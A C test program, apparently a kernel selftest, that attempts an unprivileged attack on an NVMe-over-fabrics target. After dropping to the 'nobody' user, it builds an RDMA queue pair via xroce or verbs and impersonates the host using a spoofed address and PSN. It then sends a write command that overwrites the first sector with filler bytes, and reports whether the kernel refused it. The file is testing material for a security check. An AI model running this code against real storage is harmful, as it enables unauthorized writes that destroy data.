// SPDX-License-Identifier: GPL-2.0-only
/*
 * An attack on the kernel's NVMe target, by a user without privileges: be the host, that is,
 * connect a queue pair to the target's with an address of this machine, and send a command that
 * writes to the first sector.
 *
 * usage: nvme_identity_test xroce|verbs DEVICE OWN PEER QPN PSN MAC
 * DEVICE: netdev of a link, or verbs device. Prints "refused ERROR" or "sent".
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <infiniband/verbs.h>
#include <netinet/ether.h>

#include "gid.h"
#include "harness.h"
#include "libxroce.h"
#include "verbs_device.h"

#define NOBODY	65534
#define COMMAND	64u
#define SECTOR	512u
#define TIMEOUT	14		/* 67 ms */
#define WAIT	2		/* seconds */

/* The command and its data, as one message. */
static uint8_t message[COMMAND + SECTOR];

/**
 * struct victim - the queue pair of the target
 * @own: address to send from
 * @peer: its address
 * @qpn: its number
 * @psn: PSN that it expects
 * @mac: Ethernet address of its device
 */
struct victim {
	uint8_t own[16];
	uint8_t peer[16];
	uint32_t qpn;
	uint32_t psn;
	uint8_t mac[6];
};

static void fill(void)
{
	message[0] = 1;			/* write */
	message[1] = 0x40;		/* scatter gather list */
	message[2] = 0x77;		/* command identifier */
	message[4] = 1;			/* namespace */
	message[33] = SECTOR >> 8;	/* length, at offset 0 of the data */
	message[39] = 0x01;		/* data block, at an offset in the capsule */
	memset(message + COMMAND, 0x5a, SECTOR);
}

static int refused(int err)
{
	printf("refused %s\n", strerrorname_np(err));
	return 0;
}

static int sent(void)
{
	sleep(WAIT);
	printf("sent\n");
	return 0;
}

static int failed(const char *what)
{
	printf("%s: %s\n", what, strerror(errno));
	return 1;
}

static int by_xroce(const char *dev, const struct victim *v)
{
	struct xroce *x = xroce_open(dev);
	struct xroce_qp_add add = {
		.type = XROCE_QPT_RC, .rq_entries = 4, .rq_max_sge = 1, .send_entries = 16,
		.send_max_sge = 1,
	};
	struct xroce_connect c = {
		.size = sizeof(c), .dest_qpn = v->qpn, .sq_psn = v->psn,
	};
	struct xroce_mr_reg mr = {
		.addr = (uintptr_t)message, .length = sizeof(message), .iova = (uintptr_t)message,
		.access = XROCE_ACCESS_LOCAL_WRITE,
	};
	struct xroce_sge_local sge = { .addr = (uintptr_t)message, .length = sizeof(message) };
	struct xroce_wr wr = { .opcode = XROCE_WR_SEND, .num_sge = 1, .sge = &sge };
	struct xroce_send *send;
	struct xroce_rq *rq;
	struct xroce_cq *cq;
	__u32 pd;
	int err;

	if (!x)
		return failed(dev);
	cq = xroce_cq_add(x, 64);
	if (!cq || xroce_pd_add(x, 0, &pd))
		return failed("completion queue, domain");
	add.pd = pd;
	mr.pd = pd;
	add.recv_cq = xroce_cq_id(cq);
	add.send_cq = xroce_cq_id(cq);
	if (xroce_qp_create(x, &add, &rq) || xroce_mr_reg(x, &mr))
		return failed("queue pair, region");
	sge.lkey = mr.lkey;
	send = xroce_send_open(x, &add);
	if (!send)
		return failed("send queue");
	c.qpn = add.qpn;
	memcpy(c.sgid, v->own, 16);
	memcpy(c.dgid, v->peer, 16);
	memcpy(c.dmac, v->mac, 6);
	err = xroce_qp_connect(x, &c);
	if (err)
		return refused(-err);
	return xroce_post_send(send, &wr, 1) ? failed("post") : sent();
}

static int by_verbs(const char *dev, const struct victim *v)
{
	struct ibv_context *ctx = verbs_device_open(dev);
	struct ibv_pd *pd = ctx ? ibv_alloc_pd(ctx) : NULL;
	struct ibv_cq *cq = ctx ? ibv_create_cq(ctx, 16, NULL, NULL, 0) : NULL;
	struct ibv_qp_init_attr init = {
		.send_cq = cq, .recv_cq = cq, .qp_type = IBV_QPT_RC,
		.cap = { .max_send_wr = 4, .max_send_sge = 1, .max_recv_wr = 1, .max_recv_sge = 1 },
	};
	struct ibv_qp *qp = pd && cq ? ibv_create_qp(pd, &init) : NULL;
	struct ibv_mr *mr = pd ? ibv_reg_mr(pd, message, sizeof(message), 0) : NULL;
	struct ibv_qp_attr a = { .qp_state = IBV_QPS_INIT, .port_num = 1 };
	struct ibv_sge sge = { .addr = (uintptr_t)message, .length = sizeof(message) };
	struct ibv_send_wr wr = { .opcode = IBV_WR_SEND, .num_sge = 1, .sg_list = &sge }, *bad;

	if (!qp || !mr)
		return failed("queue pair, region");
	if (ibv_modify_qp(qp, &a, IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT |
			  IBV_QP_ACCESS_FLAGS))
		return failed("INIT");
	a.qp_state = IBV_QPS_RTR;
	a.path_mtu = IBV_MTU_1024;
	a.dest_qp_num = v->qpn;
	a.ah_attr = (struct ibv_ah_attr){
		.is_global = 1, .port_num = 1,
		.grh = { .hop_limit = 64, .sgid_index = gid_index(ctx, v->own) },
	};
	memcpy(a.ah_attr.grh.dgid.raw, v->peer, 16);
	if (ibv_modify_qp(qp, &a, IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU | IBV_QP_DEST_QPN |
			  IBV_QP_RQ_PSN | IBV_QP_MAX_DEST_RD_ATOMIC | IBV_QP_MIN_RNR_TIMER))
		return refused(errno);
	a.qp_state = IBV_QPS_RTS;
	a.sq_psn = v->psn;
	a.timeout = TIMEOUT;
	if (ibv_modify_qp(qp, &a, IBV_QP_STATE | IBV_QP_SQ_PSN | IBV_QP_TIMEOUT |
			  IBV_QP_RETRY_CNT | IBV_QP_RNR_RETRY | IBV_QP_MAX_QP_RD_ATOMIC))
		return failed("RTS");
	sge.lkey = mr->lkey;
	return ibv_post_send(qp, &wr, &bad) ? failed("post") : sent();
}

int main(int argc, char **argv)
{
	struct victim v;

	if (argc != 8 || !ether_aton_r(argv[7], (struct ether_addr *)v.mac))
		return 1;
	gid_parse(argv[3], v.own);
	gid_parse(argv[4], v.peer);
	v.qpn = strtoul(argv[5], NULL, 0);
	v.psn = strtoul(argv[6], NULL, 0);
	fill();
	if (setgid(NOBODY) || setuid(NOBODY))
		return failed("uid");
	return strcmp(argv[1], "verbs") ? by_xroce(argv[2], &v) : by_verbs(argv[2], &v);
}
